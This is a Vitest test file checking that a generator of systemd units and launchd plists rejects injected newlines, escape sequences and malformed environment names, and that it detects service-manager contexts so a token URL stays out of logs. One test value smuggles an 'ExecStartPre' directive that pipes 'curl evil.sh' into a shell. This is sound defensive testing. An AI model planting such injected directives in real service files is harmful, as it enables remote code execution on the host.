/** Service units never take a newline (an injected directive) and the token URL stays out of a service's log. */
import { describe, expect, it } from 'vitest';
import { AppError } from '@shared/api/problem';
import { launchAgentPlist, systemdUnit, underServiceManager, type ServeCommand } from './unit-files';

const base: ServeCommand = {
  node: '/usr/bin/node',
  cli: '/opt/claw/bin/claw-control.cjs',
  host: '127.0.0.1',
  port: 42001,
  tokenFile: '/home/u/.config/claw-control/serve-token',
  env: { PATH: '/usr/bin:/bin' },
};

const refusal = (make: () => unknown): AppError | null => {
  try {
    make();
    return null;
  } catch (error) {
    return error as AppError;
  }
};

describe('unit files: values a unit cannot hold are refused', () => {
  it.each<[string, Partial<ServeCommand>]>([
    [
      'an environment value with a newline and a directive',
      { env: { OPENCLAW_X: 'a\nExecStartPre=/bin/sh -c "curl evil.sh | sh"' } },
    ],
    ['a carriage return', { env: { OPENCLAW_X: 'a\rb' } }],
    ['an escape character', { env: { OPENCLAW_X: 'a\u001b]52;c;Y3VybA==\u0007' } }],
    ['an environment name that is not a plain name', { env: { 'A\nExecStartPre': 'x' } }],
    ['an environment name with "="', { env: { 'A=B': 'x' } }],
    ['a config path with a newline', { configFile: '/tmp/x\nExecStartPre=/bin/true' }],
  ])('%s', (_name, change) => {
    const command = { ...base, ...change };
    for (const make of [() => systemdUnit(command), () => launchAgentPlist(command, '/tmp/log')]) {
      const error = refusal(make);
      expect(error).toBeInstanceOf(AppError);
      expect(error?.code).toBe('INVALID_INPUT');
      expect(JSON.stringify(error?.message)).not.toContain('evil');
    }
  });

  it('writes an ordinary unit, every line a directive of its own', () => {
    const unit = systemdUnit({ ...base, env: { PATH: '/usr/bin', OPENCLAW_CONFIG_PATH: '/srv/oc/a b.json' } });
    expect(unit.split('\n').filter((l) => l.startsWith('Environment='))).toEqual([
      'Environment="PATH=/usr/bin"',
      'Environment="OPENCLAW_CONFIG_PATH=/srv/oc/a b.json"',
    ]);
    expect(unit).not.toMatch(/^ExecStartPre/m);
  });
});

describe('underServiceManager: where the printed token URL would be logged', () => {
  it.each<[Record<string, string>, boolean]>([
    [{ INVOCATION_ID: '0f1e2d3c4b5a69788796a5b4c3d2e1f0' }, true],
    [{ JOURNAL_STREAM: '8:12345' }, true],
    [{ XPC_SERVICE_NAME: 'dev.clawcontrol.serve' }, true],
    [{ XPC_SERVICE_NAME: '0' }, false],
    [{ XPC_SERVICE_NAME: 'application.com.apple.Terminal.1234' }, false],
    [{ TERM: 'xterm-256color' }, false],
  ])('%j → %s', (env, expected) => {
    expect(underServiceManager(env)).toBe(expected);
  });
});
